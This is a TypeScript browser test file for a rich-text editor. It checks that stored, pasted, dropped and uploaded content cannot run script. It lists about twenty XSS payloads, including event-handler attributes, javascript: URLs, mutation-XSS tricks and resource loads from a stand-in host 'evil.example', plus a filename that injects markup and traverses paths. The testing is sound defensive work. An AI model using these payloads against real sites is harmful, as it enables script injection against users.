import { describe, expect, test } from 'vitest';
import { chromiumPath } from '../support/browser/chromium.ts';
import { deskEditorTests, dot } from '../support/browser/desk-editor.ts';

const run = 'globalThis.owned=1';
const evil = 'https://evil.example';
/** Of all that could run a script or call home. */
const attacks = [
  `<p onclick="${run}" onmouseover="${run}">text</p>`,
  `<img src=x onerror="${run}"><img src="javascript:${run}"><img src="data:text/html,<script>${run}</script>">`,
  `<script>${run}</script><script src="${evil}/a.js"></script>`,
  `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<a href="javascript:${run}">a</a><a href=" jav&#x09;ascript:${run}">b</a><a href="data:text/html,x">c</a>`,
  `<svg onload="${run}"><script>${run}</script><use href="data:image/svg+xml,x"/><a xlink:href="javascript:${run}"><text>s</text></a></svg>`,
  `<math><maction actiontype="statusline#${evil}" xlink:href="javascript:${run}"><mtext>m</mtext></maction></math>`,
  `<details open ontoggle="${run}"><summary>s</summary>d</details>`,
  `<style>@import url(${evil}/a.css); p { background: url(${evil}/b.png) }</style><p style="background:url(${evil}/c.png)">p</p>`,
  `<link rel="stylesheet" href="${evil}/d.css"><link rel="prefetch" href="${evil}/e"><base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}">`,
  `<form action="${evil}" id="f"><input name="attributes"><input name="childNodes"><button formaction="javascript:${run}">b</button></form>`,
  `<object data="${evil}/o"></object><embed src="${evil}/e"><applet code="a"></applet>`,
  `<video poster="${evil}/p.png" src="${evil}/v.mp4" autoplay onerror="${run}"></video><audio src="${evil}/a.mp3" autoplay></audio>`,
  `<table background="${evil}/t.png"><tr><td background="${evil}/u.png">cell</td></tr></table>`,
  `<picture><source srcset="${evil}/s.png"><img srcset="${evil}/t.png 2x" src="http://evil.example/i.png"></picture>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<p title="a > b" style="x:y" onclick='${run}' "onfocus=${run}" autofocus tabindex=0>t</p>`,
  `<div data-pm-slice='0 0 ["kept",{"source":"<img src=x onerror=${run}>","name":"x"}]'><p onclick="${run}">own</p><img src=x onerror="${run}"></div>`,
  `<p data-pm-slice='1 1 ["paragraph",{"attributes":{"onclick":"${run}","style":"x"}}]' onclick="${run}">own</p>`,
  `<template><img src=x onerror="${run}"></template><dialog open>d</dialog><slot></slot><x-y onclick="${run}">z</x-y>`,
];

describe.runIf(chromiumPath)('what would run in the desk', () => {
  const { desk } = deskEditorTests(async (desk) => {
    await desk.open('');
  });

  /** Everything that can be met with a pointer is, and all that was shown is there. */
  async function touch() {
    await desk.ask(`(() => {
      for (const one of document.querySelectorAll('.desk-text *'))
        for (const type of ['mouseover', 'click', 'focus', 'error', 'load', 'toggle'])
          one.dispatchEvent(new Event(type, { bubbles: true }));
    })()`);
    const dangerous = await desk.ask<string[]>(`Array.from(document.querySelectorAll('.desk-text *'))
      .filter((one) => one.matches('script, iframe, object, embed, link, meta, base, style, form, video, audio, [href^="javascript" i]')
        || one.getAttributeNames().some((name) => /^on|^style$/.test(name) && one.getAttribute(name)?.includes('owned')))
      .map((one) => one.outerHTML)`);
    expect(dangerous).toEqual([]);
  }

  test.each(attacks)('is shown as text at most where it is stored: %s', async (html) => {
    await desk.open(`<p>Before</p>\n${html}`);
    // Of the page's own server.
    desk.forgive(/status of 404/);
    await touch();

    await desk.paste({ 'text/plain': 'An edit ' });

    expect(await desk.html()).toBe(`<p>An edit Before</p>\n${html}`);
  });

  test.each(attacks)('is left out where it is pasted: %s', async (html) => {
    desk.forgive(/status of 404/);
    await desk.paste({ 'text/html': html, 'text/plain': 'x' });
    await touch();

    expect(await desk.html()).not.toMatch(/\son\w+\s*=|javascript:|<script|<style|evil\.example\/[b-e]\b/i);
  });

  test('is left out where it is dropped', async () => {
    await desk.ask(`(() => {
      const data = new DataTransfer();
      data.setData('text/html', ${JSON.stringify(attacks.join('').replaceAll('<', '<'))});
      const text = document.querySelector('.desk-text');
      const { left, top } = text.getBoundingClientRect();
      text.dispatchEvent(new DragEvent('drop', { dataTransfer: data, clientX: left + 30, clientY: top + 30, bubbles: true, cancelable: true }));
    })()`);
    await touch();

    expect(await desk.html()).not.toMatch(/\son\w+\s*=|javascript:|<script|<style/i);
  });

  test.each(['<x"', '<x\'"', '<b ', '<p style=', '<!--', '<b>', '<a href="#x" id="x">y</a>', '<br>'])(
    'takes no longer for more of it: %s',
    async (part) => {
      desk.forgive(/./);
      const open = (times: number) => `desk.open(${JSON.stringify(part)}.repeat(${times}))`;
      const paste = (times: number) =>
        `desk.open(''), desk.paste({ 'text/html': ${JSON.stringify(part)}.repeat(${times}) })`;

      for (const act of [open, paste]) {
        const [few, many] = await desk.ask<[number, number]>(`[2000, 20000].map((times) => {
          const start = performance.now();
          times === 2000 ? (${act(2000)}) : (${act(20000)});
          return performance.now() - start;
        })`);
        // Ten times as much takes ten times as long, not a hundred.
        expect((many + 200) / (few + 200)).toBeLessThan(40);
      }
    },
  );

  test('is a name like any other where a file has it, and a text where a picture does', async () => {
    const name = `"><img src=x onerror=${run}>../../..\\ .png`;
    const chooser = desk.page.waitForEvent('filechooser');
    await desk.page.getByRole('button', { name: 'Picture', exact: true }).click();
    await (await chooser).setFiles([{ name, mimeType: 'image/png', buffer: dot }]);
    await desk.page.getByLabel('Alternative text').fill(`"><script>${run}</script>`);

    await expect.poll(() => desk.ask('desk.editor.unsentPictures()')).toBe(0);
    expect(await desk.html()).toMatch(
      /^<figure><img src="\/media\/[a-z0-9-]+\.png" alt="&quot;><script>globalThis\.owned=1<\/script>"><\/figure>\n$|^<figure><img src="\/media\/[a-z0-9-]+\.png" alt="&quot;&gt;&lt;script&gt;globalThis\.owned=1&lt;\/script&gt;"><\/figure>\n$/,
    );
  });

  test('is no address of a link', async () => {
    await desk.open('<p><b>word</b></p>');
    await desk.page.locator('.desk-text b').dblclick();
    // The editor learns of a selection by an event.
    await expect
      .poll(() => desk.page.getByRole('button', { name: 'Bold' }).getAttribute('aria-pressed'))
      .toBe('true');
    await desk.page.getByRole('button', { name: 'Link' }).click();
    await desk.page.keyboard.type(`javascript:${run}`);
    await desk.page.keyboard.press('Enter');

    expect(await desk.page.getByRole('alert').filter({ visible: true }).textContent()).toBe(
      'This is not a web address.',
    );
    await desk.page.keyboard.press('Escape');
    expect(await desk.html()).toBe('<p><b>word</b></p>');
  });
});
